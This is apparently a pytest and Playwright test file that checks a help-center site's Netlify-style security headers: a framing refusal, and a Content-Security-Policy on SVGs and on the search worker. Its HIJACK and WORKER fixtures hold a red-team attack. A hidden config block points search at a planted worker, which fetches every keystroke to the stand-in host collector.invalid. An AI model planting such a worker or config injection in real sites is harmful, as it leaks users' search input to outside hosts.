"""The site's ``_headers``, applied as Netlify applies it: a framed page is refused, and every file gets the policy.

A ``<meta>`` policy reaches rendered pages only. The build writes the headers
for every file (hooks/DEPLOYING.md); here a small server applies them the way
Netlify and Cloudflare Pages read the file, and Chromium checks what a reader's
browser does with them. Each check also runs without the headers, so it could
fail: there the page is framed, and the red team's worker sends search
keystrokes to another host.
"""

from __future__ import annotations

import functools
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Page, expect
from siteserver import QuietServer, StaticSiteHandler

from conftest import Browse
from sitebuilder import ROOT, build, make_site

pytestmark = pytest.mark.browser

HOME = "---\ntitle: Home\ndescription: The home page.\n---\n\nWelcome to the help center.\n"
ARTICLE = (
    "---\ntitle: Billing tips\ndescription: Tips about billing.\nreviewed: 2026-01-01\n---\n\n"
    "Bills are made from unbilled time.\n"
)
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>\n'
# The red team's attack: a page whose fake theme settings point search at a worker of its own.
HIJACK = (
    "---\ntitle: Billing tips\ndescription: Tips about billing.\nreviewed: 2026-01-01\n---\n\n"
    "Bills are made from unbilled time.\n\n"
    '<div id="__config" hidden>{"base": "..", "features": [], "search": "../assets/images/w.js",'
    ' "translations": {}}</div>\n'
)
WORKER = (
    "onmessage = event => { fetch('https://collector.invalid/?q=' + encodeURIComponent(JSON.stringify(event.data)))"
    ".catch(() => {}); };\n"
)


def netlify_rules(text: str) -> list[tuple[re.Pattern[str], list[tuple[str, str]]]]:
    """The blocks of a ``_headers`` file: a path pattern at the start of a line, its headers indented below."""
    rules: ClassVar[list[tuple[re.Pattern[str], list[tuple[str, str]]]]] = []
    for line in text.splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if not line[0].isspace():
            pattern = re.escape(line.strip()).replace(r"\*", ".*")
            pattern = re.sub(r":[A-Za-z]\w*", "[^/]+", pattern)
            rules.append((re.compile(f"^{pattern}$"), []))
        elif rules:
            name, _, value = line.strip().partition(":")
            rules[-1][1].append((name.strip(), value.strip()))
    return rules


class NetlifyHandler(StaticSiteHandler):
    """A static host that applies the site's ``_headers`` to every response, and does not serve the file."""

    rules: ClassVar[list[tuple[re.Pattern[str], list[tuple[str, str]]]]] = []

    def end_headers(self) -> None:
        path = self.path.split("?", 1)[0]
        for pattern, headers in self.rules:
            if pattern.match(path):
                for name, value in headers:
                    self.send_header(name, value)
        super().end_headers()

    def send_head(self) -> Any:
        if self.path.split("?", 1)[0] == "/_headers":
            self.send_error(404)
            return None
        return super().send_head()


@contextmanager
def host(site_dir: Path, *, apply_headers: bool) -> Iterator[str]:
    rules = netlify_rules((site_dir / "_headers").read_text(encoding="utf-8")) if apply_headers else []
    handler_class = type("Host", (NetlifyHandler,), {"rules": rules})
    server = QuietServer(("127.0.0.1", 0), functools.partial(handler_class, directory=str(site_dir)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


def _site(root: Path, article: str, *, strict: bool = True) -> Path:
    assets = {
        path.relative_to(ROOT).as_posix(): path.read_bytes()
        for path in (ROOT / "docs" / "assets").rglob("*")
        if path.is_file()
    }  # the site's own stylesheet, script and images, which the theme's pages load
    config = make_site(
        root,
        {"index.md": HOME, "billing-tips.md": article},
        extra_files={**assets, "docs/assets/images/drawing.svg": DRAWING},
    )
    result = build(config, strict=strict)
    assert (result.site_dir / "index.html").is_file(), result.output
    return result.site_dir


@pytest.fixture(scope="module")
def site_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _site(tmp_path_factory.mktemp("headers-site"), ARTICLE)


def test_the_headers_file_covers_every_path(site_dir: Path) -> None:
    rules = netlify_rules((site_dir / "_headers").read_text(encoding="utf-8"))
    assert [pattern.pattern for pattern, _ in rules] == ["^/.*$"]
    headers = dict(rules[0][1])
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert "'unsafe-inline'" not in headers["Content-Security-Policy"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"


def _frame(page: Page, site_url: str, other_url: str) -> bool:
    """Whether a page of another origin can show the site in a frame."""
    page.goto(other_url + "frame.html")
    page.wait_for_load_state("load")
    frame = page.frame_locator("iframe")
    try:
        expect(frame.get_by_text("Welcome to the help center")).to_be_visible(timeout=3000)
    except AssertionError:
        return False
    return True


@pytest.mark.parametrize("apply_headers", [True, False], ids=["headers", "no-headers"])
def test_another_site_cannot_frame_the_help_center(
    browse: Browse, site_dir: Path, tmp_path: Path, apply_headers: bool
) -> None:
    with host(site_dir, apply_headers=apply_headers) as site_url:
        (tmp_path / "frame.html").write_text(f'<!doctype html><title>x</title><iframe src="{site_url}"></iframe>\n')
        (tmp_path / "_headers").write_text("")  # another site, with no headers of its own
        with host(tmp_path, apply_headers=False) as other:
            page, guard = browse()
            guard.allow_console(r"Framing .* violates the following Content Security Policy directive")
            assert _frame(page, site_url, other) is not apply_headers


def test_the_policy_arrives_on_an_svg_and_on_the_search_worker(browse: Browse, site_dir: Path) -> None:
    with host(site_dir, apply_headers=True) as site_url:
        page, _ = browse()
        drawing = page.goto(site_url + "assets/images/drawing.svg")
        assert drawing is not None
        assert "frame-ancestors 'none'" in (drawing.headers.get("content-security-policy") or "")
        assert drawing.headers.get("x-content-type-options") == "nosniff"
        with page.expect_response(re.compile(r"/assets/javascripts/.*worker.*\.js")) as worker:
            page.goto(site_url)
            page.get_by_role("textbox", name="Search").click()
            page.keyboard.type("bill")
        assert "connect-src 'self'" in (worker.value.headers.get("content-security-policy") or "")
        missing = page.request.get(site_url + "_headers")
        assert missing.status == 404


@pytest.mark.parametrize("apply_headers", [True, False], ids=["headers", "no-headers"])
def test_a_hijacked_search_worker_sends_nothing_off_the_site(
    browse: Browse, tmp_path: Path, apply_headers: bool
) -> None:
    """The red team's page and worker, as if they had reached the published site: the build refuses both
    (tests/test_theme_names.py); the headers are the second line."""
    site_dir = _site(tmp_path, HIJACK, strict=False)  # the build reports the page; --no-strict still writes it
    (site_dir / "assets" / "images" / "w.js").write_text(WORKER, encoding="utf-8")
    with host(site_dir, apply_headers=apply_headers) as site_url:
        page, guard = browse()
        guard.allow_console(r"Refused to connect|Content Security Policy|Failed to fetch")
        page.goto(site_url + "billing-tips/")
        page.get_by_role("textbox", name="Search").click()
        page.keyboard.type("invoice")
        page.wait_for_timeout(1500)  # the worker has had every keystroke
        off_site = list(guard.external_requests)
        guard.external_requests.clear()  # judged here, not by the fixture
        assert not guard.dialogs
        if apply_headers:
            assert off_site == []
        else:
            assert any("collector.invalid" in request for request in off_site)
